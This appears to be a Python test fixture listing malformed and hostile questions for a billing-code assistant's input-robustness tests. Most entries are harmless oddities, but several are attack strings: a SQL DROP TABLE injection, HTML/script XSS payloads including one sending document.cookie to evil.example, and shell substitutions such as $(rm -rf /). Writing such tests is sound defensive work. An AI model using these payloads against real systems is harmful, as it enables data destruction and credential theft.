"""Hostile and odd questions a billing office really pastes in, shared by the bad-input tests."""

from __future__ import annotations

# 60 distinct codes in one question: real therapy codes first, then made-up 97xxx numbers.
SIXTY_CODES = " ".join(f"97{n:03d}" for n in range(110, 170)) + " — which of these need modifier 59?"

HUGE = ("24 minutes of neuro re-ed and 23 of ther ex for a Medicare patient. " * 1500)[:100_000]

# (id, question) pairs that every entry point must survive with a message or a normal answer.
BAD_QUESTIONS: list[tuple[str, str]] = [
    ("empty", ""),
    ("whitespace", " \t\n  \r\n "),
    ("100kB", HUGE),
    ("nul", "97112\x00 units\x00"),
    ("only-nul", "\x00\x00\x00"),
    ("control-chars", "\x1b[31m97112\x1b[0m\x07\x08 what is it?\x7f\x0c"),
    ("lone-surrogate", "is 97112 timed?\udcff\udc80"),
    ("emoji", "🙂🙂 how many units for 38 min of 97112? 💸🧾"),
    ("chinese", "97112 是什么？如何计费？"),
    ("arabic", "ما هو الرمز 97112 وكيف يتم إصداره؟"),
    ("russian", "Сколько единиц за 24 минуты 97112?"),
    ("rtl-override", "\u202eGP 97112\u202c modifier?"),
    ("sql", "'; DROP TABLE feedback; -- what is the rate for 97112?"),
    ("html", '<img src=x onerror=alert(1)><b>97112</b> vs 97110<iframe src="javascript:alert(2)">'),
    ("script", "<script>fetch('http://evil.example/'+document.cookie)</script> modifier 59?"),
    ("format-string", "%s%s%n {0} {question!r} ${HOME} $(rm -rf /) `id` 97112"),
    ("sixty-codes", SIXTY_CODES),
    ("long-word", "9" * 3999),
    ("newlines", "\n".join(["97112"] * 500)),
]

# Questions the guard must turn away with a message (abstained), never a retrieval answer.
MUST_ABSTAIN = {"empty", "whitespace", "100kB", "only-nul"}
